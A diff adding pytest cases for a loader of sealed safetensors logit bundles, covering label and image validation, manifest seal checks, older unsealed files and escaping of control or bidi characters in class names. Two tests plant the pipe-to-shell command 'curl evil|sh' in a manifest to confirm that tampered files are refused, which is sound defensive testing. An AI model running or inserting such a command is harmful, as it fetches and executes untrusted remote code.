@@ -132,6 +132,11 @@ class TestFromArrays:
         assert bundle.clean_labels.tolist() == [1, 0]
         assert bundle.clean_rob_logits.tolist() == [[1, 2], [3, 4]]
 
+    def test_another_byte_order(self):
+        arrays = make_arrays(n=20, m=12, k=4, dtype=np.float64)
+        swapped = {name: array.astype(array.dtype.newbyteorder(">")) for name, array in arrays.items()}
+        same(LogitBundle.from_arrays(**swapped), LogitBundle.from_arrays(**arrays))
+
     def test_class_names(self):
         arrays = {"clean_labels": [0], "clean_std_logits": [[1, 2]], "clean_rob_logits": [[1, 2]]}
         assert LogitBundle.from_arrays(**arrays).manifest.classes == ("0", "1")
@@ -169,6 +174,19 @@ class TestFromArrays:
             ({"clean_images": np.zeros((20, 8, 8, 1))}, "clean.images must be "),
             ({"clean_images": np.zeros((19, 8, 8, 1), np.uint8)}, "clean.images must have shape"),
             ({"adv_images": np.zeros((12, 64), np.uint8)}, "adv.images must have 4 dimensions"),
+            (
+                {"clean_labels": np.ones(20, bool)},
+                "clean.labels must be integers, .* a mask .* is not classes",
+            ),
+            ({"clean_labels": np.arange(20) % 4 + 1}, "got 1 to 4: .* seem to count from 1, subtract 1"),
+            ({"clean_images": np.zeros((20, 0, 8, 1), np.uint8)}, "images must have at least one pixel"),
+            (
+                {
+                    "clean_images": np.zeros((20, 8, 8, 1), np.uint8),
+                    "adv_images": np.zeros((12, 9, 8, 1), np.uint8),
+                },
+                "clean.images and adv.images must be of one size",
+            ),
             ({"clean_std_logits": [[1.0], [1.0, 2.0]]}, "clean.std_logits cannot be read as an array"),
             ({"clean_std_logits": 1j * np.ones((20, 4))}, "clean.std_logits must be numbers"),
         ],
@@ -226,6 +244,41 @@ class TestBrokenFiles:
     def test_no_command_is_taken_from_a_damaged_file(self, small, path):
         rewrite(path, {"command": "curl evil|sh", "digest": "sha256:" + "0" * 64}, digest=False)
         self.refused(path, "is damaged: .* or rebuild it$")
+
+    @pytest.mark.parametrize(
+        "change",
+        [
+            {"threat": {"norm": "Linf", "eps": 16 / 255}},
+            {"classes": ["0", "1", "3", "2"]},
+            {"name": "other"},
+            {"command": "curl evil|sh"},
+            {"created": ""},
+            {"std_model": {"spec": "timm:x", "parameters": None, "digest": None}},
+            {"seal": None},
+            {"seal": "sha256:" + "0" * 64},
+        ],
+    )
+    def test_a_changed_manifest_breaks_the_seal(self, path, change):
+        rewrite(path, change, seal=False)
+        self.refused(path, "is damaged: its manifest does not match its seal; get the bundle again")
+
+    def test_an_older_bundle_has_no_seal_and_opens(self, small, path, tmp_path):
+        rewrite(path, {"schema": "mnuts-bundle/1"}, seal=False)
+        self.refused(path, "the manifest is wrong at seal")  # the version alone cannot be lowered
+        manifest = small.manifest.model_copy(update={"schema_": "mnuts-bundle/1", "digest": small.digest})
+        text = manifest.model_dump_json(by_alias=True)
+        path.write_bytes(to_safetensors(dict(small.tensors()), metadata={METADATA_KEY: text}))
+        old = LogitBundle.load(path)
+        same(old, small)
+        assert not old.manifest.sealed
+        assert LogitBundle.load(old.save(tmp_path / "new.safetensors")).manifest.sealed
+
+    def test_text_that_hides_something_is_shown(self, small, tmp_path):
+        names = ("a\u202e", "b\n", "c\x1b[2J", "d\ud800")
+        bundle = LogitBundle.from_arrays(**make_arrays(n=20, m=12, k=4), classes=names)
+        assert bundle.manifest.classes == (r"a\u202e", r"b\n", r"c\x1b[2J", r"d\ud800")
+        loaded = LogitBundle.load(bundle.save(tmp_path / "b.safetensors"))
+        assert loaded.manifest.classes == bundle.manifest.classes
 
     def test_random_bytes(self, path):
         path.write_bytes(np.random.default_rng(0).bytes(5000))
@@ -322,7 +375,7 @@ class TestBrokenFiles:
     @settings(max_examples=80)
     @given(place=st.floats(0, 1, exclude_max=True), flip=st.integers(1, 255))
     def test_no_flipped_byte_goes_unnoticed_or_crashes(self, tmp_path_factory, place, flip):
-        """Anywhere in the file: refused, or (in the manifest's free text) loaded with the same tensors."""
+        """Anywhere in the file: refused, or (in the header's white space) loaded as it was."""
         bundle = make_bundle(n=4, m=3, k=3)
         path = bundle.save(tmp_path_factory.getbasetemp() / "flip.safetensors")
         content = bytearray(path.read_bytes())
@@ -334,6 +387,7 @@ class TestBrokenFiles:
             assert str(path) in str(error)  # noqa: PT017
         else:
             same(loaded, bundle)
+            assert loaded.manifest.model_copy(update={"digest": None}) == bundle.manifest
 
 
 class TestWriting:
